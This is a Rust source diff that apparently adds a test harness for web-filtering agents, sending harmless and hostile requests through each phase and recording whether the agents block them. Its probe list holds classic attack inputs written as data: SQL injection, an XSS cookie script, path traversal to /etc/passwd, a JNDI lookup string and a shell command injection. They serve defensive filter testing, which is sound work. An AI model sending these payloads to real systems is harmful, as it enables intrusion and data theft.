@@ -1,0 +1,282 @@
+//! Requests to try agents out with, and how one of them fares.
+
+use std::{
+    sync::atomic::{AtomicU64, Ordering},
+    time::{Duration, Instant},
+};
+
+use bytes::Bytes;
+use hailwire_callout::{
+    Decision, Kind, Text,
+    event::{BodyChunk, Metadata, RequestComplete, RequestHeaders, ResponseHeaders},
+    inspect::Exchange,
+};
+use serde::Serialize;
+
+/// Bytes of a body that are sent at once.
+const PIECE: usize = 64 << 10;
+
+/// A request.
+#[derive(Clone, Debug)]
+pub(super) struct Probe {
+    pub(super) name: &'static str,
+    pub(super) uri: &'static str,
+    pub(super) header: Option<(&'static str, &'static str)>,
+    pub(super) content_type: &'static str,
+    pub(super) body: Body,
+    /// What should not pass, and where it shows.
+    pub(super) hostile: Option<Kind>,
+}
+
+/// What a request carries.
+#[derive(Clone, Copy, Debug)]
+pub(super) enum Body {
+    Text(&'static str),
+    /// So many bytes of nothing in particular, with a text at their end.
+    Large(usize, &'static str),
+    /// These pieces.
+    Pieces(&'static [&'static str]),
+}
+
+const PLAIN: Probe = Probe {
+    name: "a harmless request",
+    uri: "/articles?id=42&sort=date",
+    header: None,
+    content_type: "application/x-www-form-urlencoded",
+    body: Body::Text("name=Ada&comment=It+works%2C+thank+you"),
+    hostile: None,
+};
+
+const HEAD: Option<Kind> = Some(Kind::RequestHeaders);
+const BODY: Option<Kind> = Some(Kind::RequestBody);
+
+/// The requests for the configured agents.
+pub(super) const PROBES: &[Probe] = &[
+    PLAIN,
+    Probe {
+        name: "harmless JSON",
+        uri: "/api/orders",
+        content_type: "application/json",
+        body: Body::Text(r#"{"item":"O'Reilly, 3rd edition","count":2}"#),
+        ..PLAIN
+    },
+    Probe {
+        name: "SQL in the query",
+        uri: "/articles?id=1%27%20UNION%20SELECT%20name,password%20FROM%20users--",
+        hostile: HEAD,
+        ..PLAIN
+    },
+    Probe {
+        name: "a script in the query",
+        uri: "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
+        hostile: HEAD,
+        ..PLAIN
+    },
+    Probe {
+        name: "a path out of the root",
+        uri: "/download?file=../../../../etc/passwd",
+        hostile: HEAD,
+        ..PLAIN
+    },
+    Probe {
+        name: "a look-up in a header",
+        header: Some(("x-api-version", "${jndi:ldap://example.org/a}")),
+        hostile: HEAD,
+        ..PLAIN
+    },
+    Probe {
+        name: "a command in the query",
+        uri: "/ping?host=127.0.0.1;cat%20/etc/passwd",
+        hostile: HEAD,
+        ..PLAIN
+    },
+    Probe {
+        name: "SQL in the body",
+        body: Body::Text("user=admin%27+OR+%271%27%3D%271%27--&password=x"),
+        hostile: BODY,
+        ..PLAIN
+    },
+    Probe {
+        name: "SQL across two pieces of the body",
+        body: Body::Pieces(&[
+            "user=admin%27+UNI",
+            "ON+SELECT+name%2Cpassword+FROM+users--",
+        ]),
+        hostile: BODY,
+        ..PLAIN
+    },
+];
+
+/// Large bodies.
+pub(super) const LARGE: &[Probe] = &[
+    Probe {
+        name: "a body of 10 MB",
+        body: Body::Large(10_000_000, ""),
+        ..PLAIN
+    },
+    Probe {
+        name: "a body of 100 MB",
+        body: Body::Large(100_000_000, ""),
+        ..PLAIN
+    },
+    Probe {
+        name: "SQL at the end of 10 MB",
+        body: Body::Large(10_000_000, "&user=admin%27+OR+%271%27%3D%271%27--"),
+        hostile: BODY,
+        ..PLAIN
+    },
+];
+
+/// The request for agents that go wrong: all phases, two pieces in each body.
+pub(super) const PHASES: Probe = Probe {
+    body: Body::Pieces(&["first=1&", "second=2"]),
+    ..PLAIN
+};
+
+/// How a request fared.
+#[derive(Debug, Default, Serialize)]
+pub(super) struct Fared {
+    /// `passed`, or what became of it.
+    pub(super) outcome: String,
+    /// Whether it passed.
+    pub(super) passed: bool,
+    /// The phase that decided, where it did not pass.
+    pub(super) phase: Option<&'static str>,
+    /// How long each phase took, in microseconds.
+    pub(super) took: Vec<(&'static str, u64)>,
+    #[serde(skip)]
+    pub(super) decision: Decision,
+}
+
+/// Shows a request, and a response to it, to the agents.
+pub(super) async fn run(mut exchange: Exchange, probe: &Probe) -> Fared {
+    let id = id();
+    let mut fared = Fared::default();
+    let metadata = Metadata {
+        correlation_id: &id,
+        request_id: &id,
+        client_ip: "192.0.2.1",
+        client_port: 4711,
+        protocol: "HTTP/1.1",
+        timestamp: "1970-01-01T00:00:00Z",
+        ..Metadata::default()
+    };
+    let fields = [
+        ("host", "www.example.org"),
+        ("content-type", probe.content_type),
+    ];
+    let fields = fields.into_iter().chain(probe.header);
+    let head = RequestHeaders::new(&metadata, "POST", probe.uri, fields);
+    let begin = Instant::now();
+    let verdict = exchange.request_headers(head).await;
+    if fared.is_over(Kind::RequestHeaders, begin.elapsed(), verdict.decision) {
+        return fared;
+    }
+    if body(
+        &mut exchange,
+        Kind::RequestBody,
+        &id,
+        probe.body,
+        &mut fared,
+    )
+    .await
+    {
+        return fared;
+    }
+    let head = ResponseHeaders::new(&id, 200, [("content-type", "text/plain")]);
+    let begin = Instant::now();
+    let verdict = exchange.response_headers(head).await;
+    if fared.is_over(Kind::ResponseHeaders, begin.elapsed(), verdict.decision) {
+        return fared;
+    }
+    let answer = Body::Pieces(&["It works, ", "thank you."]);
+    if body(&mut exchange, Kind::ResponseBody, &id, answer, &mut fared).await {
+        return fared;
+    }
+    let complete = RequestComplete {
+        correlation_id: Text::from(id.as_str()),
+        status: 200,
+        ..RequestComplete::default()
+    };
+    exchange.complete(complete).await;
+    fared.outcome = "passed".to_owned();
+    fared.passed = true;
+    fared
+}
+
+/// Shows a body. Says whether the request is over.
+async fn body(
+    exchange: &mut Exchange,
+    kind: Kind,
+    id: &str,
+    body: Body,
+    fared: &mut Fared,
+) -> bool {
+    let id = Text::from(id);
+    let pieces = pieces(body);
+    let total: usize = pieces.iter().map(Bytes::len).sum();
+    let (last, mut transferred) = (pieces.len().saturating_sub(1), 0);
+    let begin = Instant::now();
+    for (n, data) in pieces.into_iter().enumerate() {
+        transferred += data.len() as u64;
+        let chunk = BodyChunk {
+            correlation_id: id.clone(),
+            data,
+            is_last: n == last,
+            total_size: Some(total as u64),
+            index: u32::try_from(n).unwrap_or(u32::MAX),
+            transferred,
+        };
+        let verdict = match kind {
+            Kind::ResponseBody => exchange.response_body(chunk).await,
+            _ => exchange.request_body(chunk).await,
+        };
+        if !verdict.verdict.passes() {
+            return fared.is_over(kind, begin.elapsed(), verdict.verdict.decision);
+        }
+    }
+    fared.is_over(kind, begin.elapsed(), Decision::Allow)
+}
+
+/// A body as it is sent. Large ones are the same piece again and again.
+fn pieces(body: Body) -> Vec<Bytes> {
+    match body {
+        Body::Text(text) => vec![Bytes::from_static(text.as_bytes())],
+        Body::Pieces(pieces) => pieces
+            .iter()
+            .map(|piece| Bytes::from_static(piece.as_bytes()))
+            .collect(),
+        Body::Large(size, end) => {
+            let text = b"comment=nothing+in+particular+is+said+here&".repeat(PIECE / 43 + 1);
+            let piece = Bytes::from(text).slice(..PIECE);
+            let whole = std::iter::repeat_n(piece.clone(), size / PIECE);
+            let rest = piece.slice(..size % PIECE);
+            whole
+                .chain([rest, Bytes::from_static(end.as_bytes())])
+                .collect()
+        }
+    }
+}
+
+impl Fared {
+    /// Notes a phase; says whether the request is over.
+    fn is_over(&mut self, kind: Kind, took: Duration, decision: Decision) -> bool {
+        let micros = u64::try_from(took.as_micros()).unwrap_or(u64::MAX);
+        self.took.push((kind.name(), micros));
+        self.outcome = match &decision {
+            Decision::Allow => return false,
+            Decision::Block { status, .. } => format!("blocked {status}"),
+            Decision::Redirect { status, .. } => format!("redirected {status}"),
+            Decision::Challenge { challenge_type, .. } => format!("challenged {challenge_type}"),
+        };
+        self.phase = Some(kind.name());
+        self.decision = decision;
+        true
+    }
+}
+
+fn id() -> String {
+    static NEXT: AtomicU64 = AtomicU64::new(1);
+    let next = NEXT.fetch_add(1, Ordering::Relaxed);
+    format!("test-{}-{next}", std::process::id())
+}
